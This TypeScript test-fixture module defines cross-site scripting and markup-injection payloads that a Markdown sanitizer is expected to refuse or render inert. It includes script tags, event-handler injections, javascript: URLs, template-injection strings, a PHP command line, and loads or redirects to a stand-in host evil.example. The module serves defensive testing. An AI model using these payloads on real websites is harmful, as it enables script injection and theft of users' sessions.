// Payloads of HTML in a body, and of Markdown that would close the markup of its page.
import { body, cited, type Payload, run, showing } from './payload.ts';

type Html = string | readonly [html: string, ...further: string[]];

/** HTML blocks, which are refused where they begin; other HTML is refused tag by tag. */
const blocks: Readonly<Record<string, Html>> = {
  script: `<script>${run}</script>`,
  'script-mixed-case': `<ScRiPt\n>${run}</sCrIpT>`,
  'script-src': '<script src="https://evil.example/x.js"></script>',
  'script-module': `<script type=module>${run}</script>`,
  svg: [`<svg onload="${run}"></svg>`, '10:32'],
  'svg-script': [`<svg><script>${run}</script></svg>`, '10:6', '10:30', '10:39'],
  'svg-animate': [`<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`, '10:6', '10:65'],
  math: [`<math><mi xlink:href="javascript:${run}">x</mi></math>`, '10:7', '10:53', '10:58'],
  iframe: `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  style: '<style>@import "https://evil.example/x.css";</style>',
  'meta-refresh': '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  base: '<base href="https://evil.example/">',
  object: ['<object data="data:text/html,x"></object>', '10:33'],
  embed: '<embed src="https://evil.example/x.swf">',
  form: '<form action="https://evil.example/"><button>Go</button></form>',
  link: '<link rel=stylesheet href="https://evil.example/x.css">',
  template: [`<template><script>${run}</script></template>`, '10:11', '10:35', '10:44'],
  noscript: [`<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`, '10:11', '10:70'],
  'comment-open': `<!-- \n\n<script>${run}</script>`,
  cdata: `<![CDATA[<script>${run}</script>]]>`,
  instruction: `<?php system("id") ?>`,
  'closing-tags': '</p></div></section></article></main></body></html>',
  details: `<details open ontoggle="${run}">x</details>`,
};

/** HTML within a line: each tag is refused at its column. */
const inline: Readonly<Record<string, Html>> = {
  img: `<img src=x onerror="${run}">`,
  handler: [`<b onmouseover="${run}">x</b>`, '10:39'],
  'handler-newlines': `<img\nsrc=x\nonerror="${run}">`,
  'anchor-script': [`<a href="javascript:${run}">x</a>`, '10:43'],
  'comment-inline': `<!-- <img src=x onerror="${run}"> -->`,
  'unclosed-comment': `<!-->`,
};

/** Texts that Markdown does not treat as HTML and shows as written. */
const text: Readonly<Record<string, readonly [string, string]>> = {
  'tag-unclosed': [`x <img src=x onerror=${run}`, `<img src=x onerror=${run}`],
  'tag-unquoted': [`x <img src=x onerror=${run}> <img/src=x/onerror=${run}>`, `<img/src=x/onerror=${run}>`],
  'tag-with-space': [`x < script>${run}</ script>`, `< script>${run}</ script>`],
  'tag-in-code': [`\`<script>${run}</script>\``, `<script>${run}</script>`],
  'tag-in-fence': [`~~~html\n</code></pre><script>${run}</script>\n~~~`, `</code></pre><script>${run}</script>`],
  'tag-in-entities': [`&lt;script&gt;${run}&#60;/script&#x3e;`, `<script>${run}</script>`],
  'tag-escaped': [`\\<script>${run}\\</script>`, `<script>${run}</script>`],
  'tag-full-width': [`＜script＞${run}＜/script＞`, `＜script＞${run}＜/script＞`],
  'fence-class': [`~~~x" onclick="${run}\nwords\n~~~`, 'words'],
  'cdata-end': ['x ]]> --> */ */}', ']]> --> */ */}'],
  'template-syntax': [
    `{{constructor.constructor("x")()}} \${x} {x} {% x %} #{x}`,
    `{{constructor.constructor("x")()}} \${x}`,
  ],
  'heading-id': [`## x" onmouseover="${run}`, `x" onmouseover="${run}`],
  'heading-clobbers': ['## \\_\\_proto\\_\\_\n\n## constructor\n\n## main\n\n## source-1', 'source-1'],
  'table-of-tags': [`| a |\n| - |\n| \\<script>${run}\\</script> |`, `<script>${run}</script>`],
};

const refused = (name: string, html: Html, before: string, place: string): Payload => {
  const [markdown, ...further] = typeof html === 'string' ? [html] : html;
  return body(`html-${name}`, `${before}${markdown}`, ...[place, ...further].map((at) => `${at} [raw-html]`));
};

export const markup: readonly Payload[] = [
  ...Object.entries(blocks).map(([name, html]) => refused(name, html, '', '10:1')),
  ...Object.entries(inline).map(([name, html]) => refused(name, html, '한글 ', '10:4')),
  ...Object.entries(text).map(([name, [markdown, shown]]) => showing(shown, body(`text-${name}`, markdown))),
  cited(
    'html-in-citation',
    `Words <i>x</i> [@gazette, <script>${run}</script>].`,
    '5:1 [body-sourced]',
    '5:7 [raw-html]',
    '5:11 [raw-html]',
    '5:27 [raw-html]',
    '5:51 [raw-html]',
  ),
  cited('html-beside-citation', `[@gazette, x]<img src=x onerror="${run}">`, '5:14 [raw-html]'),
  cited(
    'html-in-footnote',
    `Words[^1] [@gazette, p].\n\n[^1]: <script>${run}</script> [@gazette, p]`,
    '7:1 [body-sourced]',
    '7:7 [raw-html]',
  ),
];
